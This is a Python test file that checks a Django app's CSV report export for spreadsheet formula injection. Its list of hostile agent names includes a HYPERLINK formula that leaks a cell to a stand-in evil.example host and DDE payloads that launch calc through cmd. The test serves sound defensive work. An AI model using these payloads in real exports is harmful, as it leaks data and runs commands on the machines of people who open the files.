"""CSV formula injection: no text a user typed reaches an exported CSV as a live spreadsheet formula.

Finding (issue 12, item 5): an agent named `=HYPERLINK(...)` was exported verbatim in the reports
CSV, so the account admin's spreadsheet ran it. Every CSV export goes through
`consoleproj.csv_export`; the reports export is the only one today (the admin has no export action).
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest

from accounts.models import User
from consoleproj.csv_export import csv_cell, csv_lines
from reporting import services
from reporting.testing import plan_calls, write_calls
from tests.factories import UserFactory

URL = "/api/v1/reports/collaboration-sessions/"
FIRST = date(2025, 5, 5)
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _export(client, account) -> list[dict[str, str]]:
    response = client.get(URL, {"start": "2025-05-05", "end": "2025-05-05", "group_by": "agent", "format": "csv"})
    assert response.status_code == 200, response.content
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_reports_csv_quotes_agent_names_that_a_spreadsheet_would_run(admin_client, account):
    """
    GIVEN agents whose names (and one email) start with each formula trigger, with calls on one day
    WHEN the account admin downloads the report by agent as CSV
    THEN every such cell starts with `'` followed by the text as typed; numbers stay numbers
    """
    agents = [UserFactory(account=account, email=f"agent{n}@acme.example") for n in range(len(HOSTILE_NAMES))]
    for agent, name in zip(agents, HOSTILE_NAMES, strict=True):
        # Stored as written (the forms trim whitespace; support's admin or the database may not).
        User.objects.filter(pk=agent.pk).update(name=name)
    agents.append(UserFactory(account=account, email="-1+1@acme.example", name="Plain Name"))
    write_calls(
        account=account,
        calls=plan_calls(
            seed=3, agent_ids=[a.pk for a in agents], zone_name="UTC", first_day=FIRST, days=1, calls_per_day=60
        ),
    )
    services.rollup_days(accounts=[account], first=FIRST, last=FIRST + timedelta(days=0))

    rows = _export(admin_client, account)

    by_email = {row["agent_email"]: row for row in rows}
    assert len(by_email) == len(agents), "every agent had calls that day"
    for n, name in enumerate(HOSTILE_NAMES):
        # A CR inside a quoted cell is read back as written; the cell begins with the quote either way.
        assert by_email[f"agent{n}@acme.example"]["agent_name"] == "'" + name
    assert "'-1+1@acme.example" in by_email
    assert by_email["'-1+1@acme.example"]["agent_name"] == "Plain Name"
    for row in rows:
        assert not row["agent_name"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert int(row["sessions"]) >= 0  # metrics are plain numbers, not quoted


def test_the_one_helper_quotes_text_only():
    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "a=b", "", None, -3, 2.5)] == [
        "'=1",
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "'\rx",
        "a=b",
        "",
        "",
        -3,
        2.5,
    ]
    assert "".join(csv_lines(["=header"], [["=a", -1]])) == "'=header\r\n'=a,-1\r\n"
